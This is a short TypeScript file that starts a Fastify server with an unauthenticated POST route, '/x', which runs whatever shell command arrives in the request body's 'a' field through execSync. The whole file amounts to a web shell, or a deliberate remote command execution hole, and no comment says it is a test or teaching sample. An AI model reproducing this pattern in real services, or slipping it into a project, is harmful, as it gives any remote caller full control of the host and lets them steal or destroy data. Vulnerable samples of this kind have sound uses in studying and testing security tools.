import { execSync } from "node:child_process";
import Fastify from 'fastify';
const app = Fastify();
app.route({ method: 'POST', url: '/x', handler: async (req, reply) => { execSync((req.body as any).a); } });
